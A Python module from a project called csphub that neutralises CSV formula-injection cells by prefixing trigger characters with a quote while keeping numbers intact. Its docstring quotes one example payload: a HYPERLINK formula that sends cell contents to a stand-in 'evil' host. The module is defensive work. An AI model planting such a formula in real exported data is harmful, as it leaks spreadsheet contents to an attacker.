"""CSV cells that a spreadsheet cannot run: the one guard against CSV (formula) injection.

A spreadsheet opening a CSV treats a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula (and a leading
tab or carriage return can hide one), so a case title ``=HYPERLINK("http://evil/?"&A1, "Click")`` would run on the
reader's machine. Following OWASP, such a cell is prefixed with a single quote, which spreadsheets show as text.

A plain number (``-12``, ``+44``, ``-0.5``, ``1e-3``, ``-inf``) cannot be a formula and is kept as it is, so
figures stay figures. Every CSV csphub writes goes through :func:`cell` (or :func:`row` / :func:`writer`).
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"^[+-]?(?:(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?|inf|nan)$", re.IGNORECASE)


def cell(value: Any) -> Any:
    """``value`` made safe for a spreadsheet: strings starting with a formula trigger get a leading ``'``.

    Values that are not strings (numbers, ``None``) are returned unchanged: the csv module writes them as plain
    figures or empty cells, which no spreadsheet runs.
    """
    if not isinstance(value, str) or not value or not value.startswith(TRIGGERS):
        return value
    if _NUMBER.match(value):
        return value
    return "'" + value


def row(values: Iterable[Any]) -> list[Any]:
    """A whole row of cells made safe."""
    return [cell(v) for v in values]


class SafeWriter:
    """A ``csv.writer`` whose every cell goes through :func:`cell`."""

    def __init__(self, out: Any, **kwargs: Any) -> None:
        self._writer = csv.writer(out, **kwargs)

    def writerow(self, values: Iterable[Any]) -> Any:
        return self._writer.writerow(row(values))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for values in rows:
            self.writerow(values)


def writer(out: Any, **kwargs: Any) -> SafeWriter:
    """Like ``csv.writer(out, **kwargs)``, with every cell neutralised."""
    return SafeWriter(out, **kwargs)
